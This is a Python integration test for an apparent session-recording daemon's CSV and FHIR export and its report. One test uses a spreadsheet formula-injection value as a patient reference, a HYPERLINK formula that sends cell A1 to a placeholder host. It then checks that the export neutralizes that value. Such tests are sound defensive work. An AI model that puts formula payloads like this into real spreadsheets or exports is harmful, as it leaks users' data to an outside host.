#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""strigilctl export and session report against the real strigild.

A session that moves shin -> calf -> neck with a pause (with sides
shin:left -> calf:right -> neck where the daemon has them), then:
- CSV, FHIR and the report show every stroke's own region, side and cap
  (issue 11: before, exports put every stroke under the last region and the
  report header showed only the final region and its cap);
- stroke start times are the engine's (the report's), not the close time
  minus the duration (~70 ms later);
- a patient reference a spreadsheet would run as a formula is neutralized;
- `export --patient` collects every visit; its FHIR Bundle passes the
  official FHIR R4 JSON schema (FHIR_VALIDATE, tests/fhir/validate.js);
- the patient identifier system comes from the policy file's [export].
Real bus (our policy file), real strigild and SQLite; ASan strigilctl.
"""
import csv
import datetime
import io
import json
import os
import subprocess
import sys
import time

TOP = os.environ.get("SG_TOP") or os.path.abspath(
    os.path.join(os.path.dirname(__file__), "..", ".."))
sys.path.insert(0, os.path.join(TOP, "tests", "integration"))
from harness import (ROOT, Harness, check, finish, plain, wait_for)  # noqa: E402
import dbus  # noqa: E402

CTL = os.environ.get("STRIGILCTL") or os.path.join(TOP, "build", "strigilctl-san")
FHIR_VALIDATE = os.environ.get("FHIR_VALIDATE")   # "node .../validate.js"
SIM1 = dbus.ObjectPath(ROOT + "/instrument/SIM0001")
GUARD_S = 60
SYSTEM = "https://clinic.example.org/fhir/patient-ref"
SNOMED = "http://snomed.info/sct"


def ctl(h, *args):
    env = dict(os.environ, ASAN_OPTIONS="detect_leaks=1:exitcode=66",
               UBSAN_OPTIONS="print_stacktrace=1:halt_on_error=1:exitcode=66", NO_COLOR="1")
    p = subprocess.run([CTL, "--address", h.address] + list(args), env=env,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       universal_newlines=True, timeout=GUARD_S)
    check("Sanitizer" not in p.stderr and "runtime error" not in p.stderr,
          "no sanitizer report from strigilctl %s: %s" % (" ".join(args), p.stderr[-400:]))
    return p.returncode, p.stdout, p.stderr


def iso(t):
    """FHIR instant / CSV time_utc of unix seconds, as strigilctl writes it."""
    ms = int(round(t * 1000))
    d = datetime.datetime.fromtimestamp(ms // 1000, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%03dZ" % (ms % 1000)


def wall(started, pauses, t, start):
    """Unix time of engine time t: the session start plus t plus the part of
    each earlier pause's wall-clock length the engine's clock did not count
    (the simulator sends no samples while paused; a real tool does)."""
    w = started + t
    for p in pauses:
        if not p["ended_at"]:
            continue
        uncounted = (p["ended_at"] - p["started_at"]) / 1e6 - (p["end_s"] - p["start_s"])
        if uncounted > 0 and (t >= p["end_s"] if start else t > p["start_s"]):
            w += uncounted
    return w


def play(h, session, strokes):
    """Plays (peak, contact, gap) strokes and waits until the daemon counted them."""
    want = h.prop(session, "Session", "StrokeCount") + len(strokes)
    h.iface(SIM1, "Debug").Play(dbus.Array([dbus.Struct(s, signature="ddd") for s in strokes],
                                           signature="(ddd)"))
    check(wait_for(lambda: h.prop(session, "Session", "StrokeCount") >= want and
                   h.script_played(SIM1), GUARD_S), "the daemon counted %d strokes" % want)


def sided(h, region, side):
    """region:side (kept as a function: the test once ran before sides)."""
    return "%s:%s" % (region, side) if h.sides else region


def side_of(stroke):
    """What a record says of its side; 'unknown' where the daemon keeps none."""
    if "side" in stroke:
        return stroke["side"]
    r = stroke.get("region", "")
    return r.split(":", 1)[1] if ":" in r else "unknown"


def run_session(h, prof):
    """shin -> calf -> (pause) -> neck, strokes in each; returns the session path."""
    h.sides = True      # the daemon knows sides (issue 11's records work)
    spath = h.manager.StartSession(SIM1, prof, "shin:left")
    play(h, spath, [(1.0, 0.5, 0.4)] * 2)
    h.iface(spath, "Session").SetRegion(sided(h, "calf", "right"))
    play(h, spath, [(1.5, 0.5, 0.4)] * 2)
    h.iface(spath, "Session").Pause()
    time.sleep(0.3)
    h.iface(spath, "Session").Resume()
    h.iface(spath, "Session").SetRegion("neck")
    cap = h.prop(spath, "Session", "EffectiveLimitN")
    play(h, spath, [(cap * 0.5, 0.5, 0.4), (cap * 1.6, 0.6, 0.5)])
    h.iface(spath, "Session").Stop()
    return spath


def test_records(h, tmp):
    prof = h.create_profile(patient_ref="pt-exp-1",
                            conditions=dbus.Array(["anticoagulants"], signature="s"))
    spath = run_session(h, prof)
    sid = spath.rsplit("/", 1)[1]
    sess = h.iface(spath, "Session")
    strokes = plain(sess.GetStrokes())
    viol = plain(sess.GetViolations())
    pauses = plain(sess.GetPauses())
    check(len(pauses) == 1, "one pause recorded: %s" % pauses)
    started = h.prop(spath, "Session", "StartedAt") / 1e6
    regions = [s["region"] for s in strokes]
    want = [sided(h, "shin", "left")] * 2 + [sided(h, "calf", "right")] * 2 + ["neck"] * 2
    check(regions == want, "GetStrokes keeps each stroke's region: %s" % regions)
    caps = [s.get("cap_n", s["limit_n"]) for s in strokes]
    check(caps[0] != caps[2] != caps[4], "three different caps in force: %s" % caps)
    exceeded = [v for v in viol if v["kind"] == "exceeded"]
    check(len(exceeded) == 1 and exceeded[0]["region"] == "neck", "one violation, on the neck")

    # ---- CSV: every row its own region, side, cap; the engine's start.
    f_csv = os.path.join(tmp, "records.csv")
    rc, out, err = ctl(h, "export", "--format", "csv", "--output", f_csv, sid)
    check(rc == 0, "export csv (%d: %s)" % (rc, err.strip()))
    rows = list(csv.DictReader(open(f_csv, newline=""))) if rc == 0 else []
    srows = [r for r in rows if r["kind"] == "stroke"]
    check(len(srows) == len(strokes), "one CSV row per stroke")
    for r, s in zip(srows, strokes):
        ok = (r["region"] == s["region"] and r.get("side") == side_of(s) and
              abs(float(r["limit_n"]) - s.get("cap_n", s["limit_n"])) < 0.0005 and
              r["start_s"] == "%.3f" % s["start_s"] and r["end_s"] == "%.3f" % s["end_s"] and
              r["time_utc"] == iso(wall(started, pauses, s["start_s"], True)))
        if "cap_reasons" in s:
            ok = ok and r.get("cap_reasons") == "; ".join(s["cap_reasons"])
        # Bursts: the stroke's burst and how it ended, as recorded.
        ok = ok and r.get("burst") == str(s["burst"]) and r.get("end") == s["end"]
        check(ok, "CSV stroke %s: region, side, cap, burst and the engine's start as recorded: "
              "%s vs %s" % (s["index"], dict(r), s))
    vrow = [r for r in rows if r["kind"] == "exceeded"]
    check(len(vrow) == 1 and vrow[0]["region"] == "neck" and
          vrow[0]["start_s"] == "%.3f" % exceeded[0]["t_s"],
          "CSV violation row: its region and engine time: %s" % vrow)

    # ---- FHIR: every Observation its own body site and cap.
    f_json = os.path.join(tmp, "records.json")
    rc, out, err = ctl(h, "export", "--format", "fhir", "--output", f_json, sid)
    check(rc == 0, "export fhir (%d: %s)" % (rc, err.strip()))
    b = json.load(open(f_json)) if rc == 0 else {"entry": []}
    res = {e["fullUrl"]: e["resource"] for e in b["entry"]}
    obs = {o["identifier"][0]["value"]: o for o in res.values()
           if o["resourceType"] == "Observation"}
    codes = {"shin": "78234002", "calf": "53840002", "neck": "45048000"}
    for s in strokes:
        o = obs.get("%s/stroke/%d" % (sid, s["index"]), {})
        site = o.get("bodySite", {})
        base = s["region"].split(":")[0]
        coding = (site.get("coding") or [{}])[0]
        ext = [x for x in site.get("extension", [])
               if x["url"] == "http://hl7.org/fhir/StructureDefinition/bodySite"]
        bs = res.get(ext[0]["valueReference"]["reference"], {}) if ext else {}
        qual = [c["coding"][0]["code"] for c in bs.get("locationQualifier", [])]
        want_q = {"left": ["7771000"], "right": ["24028007"]}.get(side_of(s), [])
        rng = (o.get("referenceRange") or [{}])[0]
        comp = {c["code"]["coding"][0]["code"]: c for c in o.get("component", [])}
        ok = (comp.get("stroke-burst", {}).get("valueInteger") == s["burst"] and
              comp.get("stroke-end", {}).get("valueCodeableConcept", {})
              .get("coding", [{}])[0].get("code") == s["end"] and
              coding.get("system") == SNOMED and coding.get("code") == codes[base] and
              s["region"] in site.get("text", "") and
              bs.get("resourceType") == "BodyStructure" and qual == want_q and
              bs["location"]["coding"][0]["code"] == codes[base] and
              abs(rng.get("high", {}).get("value", -1) - s.get("cap_n", s["limit_n"])) < 0.0005 and
              o.get("effectivePeriod", {}).get("start") ==
              iso(wall(started, pauses, s["start_s"], True)) and
              o.get("effectivePeriod", {}).get("end") ==
              iso(wall(started, pauses, s["end_s"], False)))
        check(ok, "FHIR stroke %d: SNOMED body site %s, side %s, cap, burst, end, engine times: %s"
              % (s["index"], codes[base], side_of(s), json.dumps(o)[:700]))
    displays = {}
    for r in res.values():
        for cc in ([r.get("bodySite")] if isinstance(r.get("bodySite"), dict) else
                   r.get("bodySite", [])) + [r.get("location")]:
            for c in (cc or {}).get("coding", []):
                displays.setdefault(c["code"], set()).add(c.get("display"))
    check(all(len(v) == 1 for v in displays.values()) and len(displays) == 3,
          "one display per SNOMED code: %s" % displays)
    proc = [r for r in res.values() if r["resourceType"] == "Procedure"]
    texts = [c.get("text") for c in proc[0].get("bodySite", [])] if proc else []
    check(len(texts) == 3 and all(any(w in t for t in texts) for w in set(want)),
          "the Procedure names every site treated: %s" % texts)

    # ---- The report: every region treated with its cap and reasons; pauses.
    rc, rep, err = ctl(h, "session", "report", sid)
    check(rc == 0, "session report (%d: %s)" % (rc, err))
    head = rep.split("\nStrokes")[0]
    for reg, cap in ((want[0], caps[0]), (want[2], caps[2]), ("neck", caps[4])):
        line = [ln for ln in head.splitlines() if ln.strip().startswith(reg + " ")]
        check(line and "%.2f N" % cap in line[0],
              "report header: %s with its cap %.2f N:\n%s" % (reg, cap, head))
    check(head.count("anticoagulants") >= 3 or "reasons not recorded" in head,
          "report header: the reasons of each region's cap:\n" + head)
    check(len(pauses) == 1 and "Pauses (1)" in head and
          "%.2f" % pauses[0]["start_s"] in head,
          "report header lists the pause with its times:\n" + head)
    prow = [r for r in rows if r["kind"] == "pause"]
    check(len(prow) == 1 and prow[0]["start_s"] == "%.3f" % pauses[0]["start_s"] and
          prow[0]["end_s"] == "%.3f" % pauses[0]["end_s"] and
          prow[0]["flag"] == pauses[0]["reason"] and
          prow[0]["time_utc"] == iso(pauses[0]["started_at"] / 1e6),
          "CSV has the pause: %s" % prow)
    pnotes = [n["text"] for pr in proc for n in pr.get("note", [])]
    check(len(pnotes) == 1 and iso(pauses[0]["started_at"] / 1e6) in pnotes[0] and
          iso(pauses[0]["ended_at"] / 1e6) in pnotes[0],
          "the FHIR Procedure notes the pause with its times: %s" % pnotes)
    # the report's stroke start = the CSV's (the engine's)
    # the stroke table: index, site, start, ...
    starts = [ln.split()[2] for ln in rep.split("\nStrokes")[1].splitlines()[2:8]] \
        if "\nStrokes" in rep else []
    # (the CSV's own 3-decimal starts were checked against start_s above)
    check(starts == ["%.2f" % s["start_s"] for s in strokes],
          "the report gives the engine's stroke starts, as the CSV: %s / %s" %
          (starts, [r["start_s"] for r in srows]))
    return prof, sid


def test_formula(h, tmp):
    """A reference that a spreadsheet would run reaches the CSV as text."""
    for ref in ('=HYPERLINK("http://x.example/?q="&A1,"open")', "-2-3"):
        try:
            prof = h.create_profile(patient_ref=ref)
        except dbus.DBusException as e:
            print("daemon refuses patient reference %r: %s" % (ref, e.get_dbus_name()))
            continue
        break
    else:
        check(False, "some formula-like patient reference is accepted")
        return
    spath = h.manager.StartSession(SIM1, prof, "neck")
    play(h, spath, [(1.0, 0.5, 0.4)])
    h.iface(spath, "Session").Stop()
    sid = spath.rsplit("/", 1)[1]
    f_csv = os.path.join(tmp, "formula.csv")
    rc, out, err = ctl(h, "export", "--format", "csv", "--output", f_csv, sid)
    check(rc == 0, "export csv (%d: %s)" % (rc, err.strip()))
    text = open(f_csv, newline="").read() if rc == 0 else ""
    rows = list(csv.DictReader(io.StringIO(text)))
    check(rows and all(r["patient_ref"] == "'" + ref for r in rows),
          "csv module: the reference %r reads as text with a leading apostrophe: %s"
          % (ref, [r["patient_ref"] for r in rows]))
    check(all(not c.startswith(("=", "+", "-", "@", "\t", "\r"))
              for r in csv.reader(io.StringIO(text)) for c in r[:5] + r[16:]),
          "no text cell starts a formula")


def test_patient_export(h, tmp, prof, first_sid):
    # A second visit of the same patient.
    spath = h.manager.StartSession(SIM1, prof, sided(h, "calf", "left"))
    play(h, spath, [(1.2, 0.5, 0.4)])
    h.iface(spath, "Session").Stop()
    sid2 = spath.rsplit("/", 1)[1]
    f_json = os.path.join(tmp, "patient.json")
    rc, out, err = ctl(h, "export", "--format", "fhir", "--patient", "pt-exp-1",
                       "--output", f_json)
    check(rc == 0, "export --patient fhir (%d: %s)" % (rc, err.strip()))
    b = json.load(open(f_json)) if rc == 0 else {"entry": []}
    kinds = [e["resource"]["resourceType"] for e in b["entry"]]
    procs = [e["resource"] for e in b["entry"] if e["resource"]["resourceType"] == "Procedure"]
    check(kinds.count("Patient") == 1 and len(procs) == 2 and
          [p["identifier"][0]["value"] for p in procs] == [first_sid, sid2],
          "one Patient, both visits oldest first: %s" % kinds)
    pat = [e["resource"] for e in b["entry"] if e["resource"]["resourceType"] == "Patient"]
    check(pat and pat[0]["identifier"][0] == {"system": SYSTEM, "value": "pt-exp-1"},
          "Patient.identifier uses the policy's system: %s" % (pat[0] if pat else None))
    if FHIR_VALIDATE:
        p = subprocess.run(FHIR_VALIDATE.split() + [f_json], stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, universal_newlines=True)
        check(p.returncode == 0, "the multi-visit Bundle passes the FHIR R4 JSON schema:\n"
              + p.stdout[-1500:])
        bad = dict(b)
        bad["entry"] = [dict(e) for e in b["entry"]]
        for e in bad["entry"]:
            if e["resource"]["resourceType"] == "Procedure":
                e["resource"] = dict(e["resource"], bodySite=e["resource"]["bodySite"][0])
        f_bad = os.path.join(tmp, "bad.json")
        json.dump(bad, open(f_bad, "w"))
        p = subprocess.run(FHIR_VALIDATE.split() + [f_bad], stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, universal_newlines=True)
        check(p.returncode == 1, "the schema check refuses a broken Bundle (bodySite not a "
              "list): %s" % p.stdout[-300:])
    else:
        print("SKIP: FHIR R4 schema check (FHIR_VALIDATE not set; make check sets it)")
    f_csv = os.path.join(tmp, "patient.csv")
    rc, out, err = ctl(h, "export", "--format", "csv", "--patient", "pt-exp-1",
                       "--output", f_csv)
    rows = list(csv.DictReader(open(f_csv, newline=""))) if rc == 0 else []
    check(rc == 0 and sorted({r["session"] for r in rows}) == sorted([first_sid, sid2]),
          "export --patient csv: both visits (%d: %s)" % (rc, err.strip()))
    rc, out, err = ctl(h, "export", "--format", "csv", "--patient", "pt-nobody")
    check(rc == 1 and "profile list" in err and not out,
          "unknown patient: a sentence that says what to do (%d: %s)" % (rc, err.strip()))
    h.create_profile(patient_ref="pt-exp-novisit")
    f_none = os.path.join(tmp, "none.csv")
    rc, out, err = ctl(h, "export", "--format", "csv", "--patient", "pt-exp-novisit",
                       "--output", f_none)
    check(rc == 1 and "no sessions" in err and not os.path.exists(f_none),
          "a patient without visits: told, nothing written (%d: %s)" % (rc, err.strip()))
    rc, out, err = ctl(h, "export", "--format", "csv", "--patient", "pt-exp-1", first_sid)
    check(rc == 2, "--patient with session ids: usage error (%d)" % rc)


def main():
    h = Harness(simulate=1, sim_signal="flat")
    tmp = os.path.join(h.tmp, "export")
    os.mkdir(tmp)
    # shin and calf have sides here (the session moves shin:left ->
    # calf:right -> neck); the shipped text otherwise.
    policy = h.write_policy(lateral=("shin", "calf"))
    text = open(policy).read()
    line = "#patient_identifier_system = urn:strigil:patient-ref\n"
    check(line in text, "the shipped policy shows the [export] key")
    with open(policy, "w") as f:
        f.write(text.replace(line, "patient_identifier_system = %s\n" % SYSTEM))
    try:
        h.start_daemon()
        prof, sid = test_records(h, tmp)
        test_formula(h, tmp)
        test_patient_export(h, tmp, prof, sid)
        h.stop_daemon()
    except Exception as e:  # a crash is a failure with its story
        import traceback
        traceback.print_exc()
        check(False, "test raised %r" % e)
    finally:
        h.cleanup()
    finish()


if __name__ == "__main__":
    main()
